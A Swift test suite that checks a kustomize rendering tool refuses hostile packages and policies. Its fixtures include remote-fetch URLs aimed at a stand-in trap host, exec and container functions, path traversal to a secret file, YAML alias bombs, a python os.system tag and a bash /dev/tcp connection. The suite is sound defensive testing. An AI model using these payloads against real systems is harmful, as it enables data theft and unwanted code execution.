import Archive
import CapsuleCore
import CapsuleTestSupport
import FoundationEssentials
import Processes
import Support
import Testing

@testable import DeliveryConfiguration
@testable import Rendering

@Suite("Hostile packages and policies", .needs(anyOf: "kustomize", "kubectl"), .timeLimit(.minutes(2)))
struct HostileRenderTests {
    /// A package and policy that try something. `TRAP` becomes the address of a server that must see no connection,
    /// `SECRET` the path of a file outside the tree, `MARKER` one that nothing may create.
    struct Case: Sendable, CustomTestStringConvertible {
        let testDescription: String
        var package: [String: String] = [:]
        var policy: [String: String] = [:]
        /// Where the refusal looks for the fault.
        let blamed: String

        init(_ name: String, package text: String, more: [String: String] = [:]) {
            testDescription = "package: \(name)"
            package = ["base/kustomization.yaml": text].merging(more) { $1 }
            blamed = "source/"
        }

        init(_ name: String, policy text: String, more: [String: String] = [:]) {
            testDescription = "policy: \(name)"
            policy = ["envTypes/staging/kustomization.yaml": component + text].merging(more) { $1 }
            blamed = "envTypes/"
        }
    }

    /// R1: everything that would make kustomize fetch something. Each is tried in the package and in the policy.
    static let remote: [(name: String, text: String)] = [
        ("an https resource", "resources: ['http://TRAP/all.yaml']"),
        ("an https resource in upper case", "resources: ['HTTP://TRAP/all.yaml']"),
        ("a git resource over http", "resources: ['http://TRAP/repo.git//base?ref=main']"),
        ("a git:: resource", "resources: ['git::http://TRAP/repo//base?ref=main']"),
        ("an ssh resource", "resources: ['git@127.0.0.1:acme/repo.git//base']"),
        ("an ssh URL", "resources: ['ssh://git@TRAP/acme/repo//base']"),
        ("a GitHub shorthand", "resources: ['github.com/acme/repo//base?ref=v1']"),
        ("a GitHub organisation shorthand", "resources: ['gh:acme/repo?ref=v1']"),
        ("an s3 resource", "resources: ['s3::http://TRAP/bucket/key']"),
        ("an oci resource", "resources: ['oci://TRAP/acme/base']"),
        ("a file URL", "resources: ['file:///etc//passwd']"),
        ("a remote base", "bases: ['http://TRAP/base']"),
        ("a remote component", "components: ['http://TRAP/repo.git//component?ref=main']"),
        ("a remote patch", "patches: [{path: 'http://TRAP/patch.yaml'}]"),
        ("a remote strategic merge patch", "patchesStrategicMerge: ['http://TRAP/patch.yaml']"),
        (
            "a remote JSON patch",
            "patchesJson6902: [{target: {version: v1, kind: Service, name: web}, path: 'http://TRAP/p.yaml'}]"
        ),
        ("remote CRDs", "crds: ['http://TRAP/crds.yaml']"),
        ("a remote configuration", "configurations: ['http://TRAP/config.yaml']"),
        ("a remote OpenAPI schema", "openapi: {path: 'http://TRAP/schema.json'}"),
        ("a remote replacement", "replacements: [{path: 'http://TRAP/replacement.yaml'}]"),
        ("a remote generator", "generators: ['http://TRAP/generator.yaml']"),
        ("a remote transformer", "transformers: ['http://TRAP/transformer.yaml']"),
        ("a remote validator", "validators: ['http://TRAP/validator.yaml']"),
        ("a remote file for a ConfigMap", "configMapGenerator: [{name: a, files: ['http://TRAP/file']}]"),
        ("a remote environment file", "secretGenerator: [{name: a, envs: ['http://TRAP/file.env']}]"),
        ("a list of one document in two", "resources: ['http://TRAP/a.yaml']\n---\nresources: []"),
        ("a merge key", "x: &x {resources: ['http://TRAP/a.yaml']}\n<<: *x"),
        ("a key in upper case", "Resources: ['http://TRAP/a.yaml']"),
    ]

    /// R2: everything that would make kustomize run something.
    static let running: [(name: String, text: String, more: [String: String])] = [
        ("a Helm chart", "helmCharts: [{name: a, repo: 'http://TRAP', version: '1'}]", [:]),
        ("Helm charts in the package", "helmGlobals: {chartHome: charts}\nhelmCharts: [{name: a}]", [:]),
        ("the old Helm inflator", "helmChartInflationGenerator: [{chartName: a, chartRepoUrl: 'http://TRAP'}]", [:]),
        (
            "an exec function", "transformers: [run.yaml]",
            ["run.yaml": function("exec: {path: ./run.sh}"), "run.sh": script]
        ),
        (
            "an exec generator", "generators: [run.yaml]",
            ["run.yaml": function("exec: {path: ./run.sh}"), "run.sh": script]
        ),
        (
            "an exec validator", "validators: [run.yaml]",
            ["run.yaml": function("exec: {path: ./run.sh}"), "run.sh": script]
        ),
        (
            "a container", "generators: [run.yaml]",
            ["run.yaml": function("container: {image: 'TRAP/image', network: true}")]
        ),
        (
            "a starlark function", "transformers: [run.yaml]",
            ["run.yaml": function("starlark: {url: 'http://TRAP/x.star'}")]
        ),
        (
            "an inline exec function",
            "transformers:\n  - |\n"
                + function("exec: {path: ./run.sh}").split(separator: "\n").map { "    \($0)\n" }.joined(),
            ["run.sh": script]
        ),
        (
            "a Go plugin", "generators: [run.yaml]",
            ["run.yaml": "apiVersion: acme.example/v1\nkind: Run\nmetadata: {name: a}\n"]
        ),
        (
            "a Helm inflation plugin", "generators: [run.yaml]",
            [
                "run.yaml":
                    "apiVersion: builtin\nkind: HelmChartInflationGenerator\nmetadata: {name: a}\nname: a\nrepo: http://TRAP\n"
            ]
        ),
    ]

    /// R3: everything that would read outside the tree.
    static let leaving: [(name: String, text: String)] = [
        ("an absolute resource", "resources: [SECRET]"),
        ("a resource above", "resources: [../../../../../../../../..SECRET]"),
        ("an absolute file", "configMapGenerator: [{name: a, files: [SECRET]}]"),
        ("a keyed file above", "configMapGenerator: [{name: a, files: ['x=../../../../../../../../..SECRET']}]"),
        ("an environment file above", "secretGenerator: [{name: a, envs: [../../../../../../../../..SECRET]}]"),
        ("a patch above", "patches: [{path: ../../../../../../../../..SECRET}]"),
        ("an absolute strategic merge patch", "patchesStrategicMerge: [SECRET]"),
        ("a replacement above", "replacements: [{path: ../../../../../../../../..SECRET}]"),
        ("a schema above", "openapi: {path: ../../../../../../../../..SECRET}"),
        ("a file that is not there", "configMapGenerator: [{name: a, envs: [.env]}]"),
        ("itself", "resources: [.]"),
        ("the directory above", "resources: [..]"),
        ("the generated deployment", "resources: [../../deployments/staging/deploy]"),
    ]

    /// R4 and R5: what would not end, or take everything.
    static let endless: [(name: String, text: String, more: [String: String])] = [
        (
            "a cycle of bases", "resources: [../b]",
            ["../b/kustomization.yaml": "resources: [../c]\n", "../c/kustomization.yaml": "resources: [../b]\n"]
        ),
        ("an alias bomb in a resource", "resources: [bomb.yaml]", ["bomb.yaml": RendererFaultTests.bomb]),
        ("an alias bomb in a patch", "patches: [{path: bomb.yaml}]", ["bomb.yaml": RendererFaultTests.bomb]),
        ("a hundred thousand levels", "resources: [deep.yaml]", ["deep.yaml": String(filledWith: "[", count: 100_000)]),
        ("a huge scalar", "resources: [huge.yaml]", ["huge.yaml": "a: " + String(filledWith: "x", count: 11 << 20)]),
        ("a duplicate key", "resources: []\nresources: []", [:]),
        ("a tag of its own", "resources: !!python/object:os.system [a]", [:]),
    ]

    static let component = "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\n"
    static let script = "#!/bin/sh\n: > MARKER\ncat\n"
    static func function(_ what: String) -> String {
        """
        apiVersion: acme.example/v1
        kind: Run
        metadata:
          name: run
          annotations:
            config.kubernetes.io/function: "\(what.replacing("'", with: ""))"

        """
    }

    static func place(_ files: [String: String], in directory: String) -> [String: String] {
        Dictionary(
            uniqueKeysWithValues: files.map { name, text in
                let path =
                    name.hasPrefix("../")
                    ? "\(directory.prefix { $0 != "/" })/\(name.dropFirst(3))" : "\(directory)/\(name)"
                return (path, text)
            })
    }

    // Not what is stopped by its size: kustomize would take its time for that. What policy does to kustomize a package
    // does too, so half of them are enough for runs of the real program.
    static let reaching: [Case] = cases.filter { item in
        item.testDescription.hasPrefix("package:") && !endless.contains { item.testDescription.hasSuffix($0.name) }
    }

    static let cases: [Case] =
        (remote.map { ($0.name, $0.text, [:]) } + running + leaving.map { ($0.name, $0.text, [:]) } + endless).flatMap {
            name, text, more in
            [
                Case(name, package: text + "\n", more: place(more, in: "base")),
                Case(name, policy: text + "\n", more: place(more, in: "envTypes/staging")),
            ]
        }

    static func input(
        _ item: Case, trap: TrapServer?, directory: String, scans: Bool
    ) throws -> RenderInput {
        let address = "127.0.0.1:\(trap?.port ?? 1)"
        func fill(_ files: [String: String]) -> [String: String] {
            files.mapValues { text in
                [("TRAP", address), ("SECRET", "\(directory)/secret"), ("MARKER", "\(directory)/marker")]
                    .reduce(text) { text, mark in
                        // Few texts have one, and to look for it is much faster than to replace it.
                        ByteSearch.first(Array(mark.0.utf8), in: Array(text.utf8)) == nil
                            ? text : text.replacing(mark.0, with: mark.1)
                    }
            }
        }
        var options = RenderOptions()
        options.scans = scans
        return try RenderFixture.input(
            package: RenderFixture.base.merging(fill(item.package)) { $1 },
            policy: RenderFixture.policy.merging(fill(item.policy)) { $1 }, options: options)
    }

    @Test("are refused before a renderer runs, with the file to blame")
    func refused() async throws {
        try await withTemporaryDirectory { directory in
            let runner = RenderCounter()
            let renderer = Renderer(runner: runner, cache: nil, temporaryDirectory: directory)
            try writeFile("\(directory)/secret", "attack at dawn")
            for item in Self.cases {
                let start = ContinuousClock.now
                let input = try Self.input(item, trap: nil, directory: directory, scans: true)
                let findings = try await RenderFixture.rejection(input, by: renderer)
                #expect(!findings.isEmpty, "\(item)")
                #expect(findings.contains { $0.file?.hasPrefix(item.blamed) == true }, "\(item): \(findings)")
                #expect(!"\(findings)".contains("attack at dawn"), "\(item)")
                #expect(ContinuousClock.now - start < .seconds(10), "\(item)")
            }
            #expect(runner.renders == 0)
            #expect(listTree(directory) == ["secret"])
        }
    }

    @Test("reach and run nothing even when they were not scanned", .enabled { try await canIsolate() })
    func unscanned() async throws {
        try await withTemporaryDirectory { directory in
            try writeFile("\(directory)/secret", "attack at dawn")
            let renderer = Renderer(runner: SystemCommandRunner(), cache: nil, temporaryDirectory: directory)
            let connections = try await TrapServer.connections { trap in
                for item in Self.reaching {
                    let input = try Self.input(item, trap: trap, directory: directory, scans: false)
                    let result = await Result { try await renderer.render(input) }
                    switch result {
                    case .success(let rendered):
                        #expect(rendered.isolated == true, "\(item)")
                        for file in rendered.files {
                            #expect(
                                !String(decoding: file.content, as: UTF8.self).contains("attack at dawn"), "\(item)")
                        }
                    case .failure(let error):
                        #expect(!"\(error)".contains("attack at dawn"), "\(item)")
                        #expect(!"\(error)".contains("capsule-scratch-"), "\(item): \(error)")
                    }
                }
            }
            #expect(connections == 0)
            #expect(listTree(directory) == ["secret"])
        }
    }

    @Test("would be seen by the trap if the network were there")
    func trapWorks() async throws {
        let connections = try await TrapServer.connections { trap in
            _ = try? await Tool.run(["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/\(trap.port)"])
        }
        #expect(connections == 1)
    }

    static func canIsolate() async throws -> Bool {
        guard RenderFixture.hasKustomize else { return false }
        return try await RendererTools(
            runner: SystemCommandRunner(), cache: nil, limits: RenderLimits(), temporaryDirectory: nil
        ).tool(for: .kustomize).program.unshare != nil
    }
}
